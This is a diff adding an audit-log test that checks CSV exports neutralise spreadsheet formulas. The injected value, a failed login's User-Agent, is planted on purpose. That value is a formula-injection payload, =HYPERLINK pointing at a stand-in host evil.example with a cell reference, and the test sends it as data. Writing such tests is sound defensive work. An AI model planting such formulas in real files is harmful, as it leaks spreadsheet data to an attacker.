@@ -227,6 +227,18 @@ describe('identity, roles and the audit log over HTTP', () => {
     );
     expect(lines.slice(1).every((line) => line.includes('organization.create'))).toBe(true);
     expect(lines.length - 1).toBeGreaterThanOrEqual(3);
+
+    // Anyone can put text in the log (a failed sign-in's User-Agent): in the CSV it stays text, not a formula.
+    const formula = '=HYPERLINK("http://evil.example/?"&A1,"open")';
+    await t.api.request(
+      'POST',
+      '/api/v1/auth/login',
+      { email: 'nobody@example.jp', password: 'wrong password 123' },
+      { 'user-agent': formula },
+    );
+    const failed = await admin.get('/api/v1/audit-events/export.csv?action=auth.login.failed');
+    expect(failed.text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`);
+    expect(failed.text).not.toMatch(/,"?=HYPERLINK/);
   });
 
   it('shows admins the failed jobs of each queue, with their error', async () => {
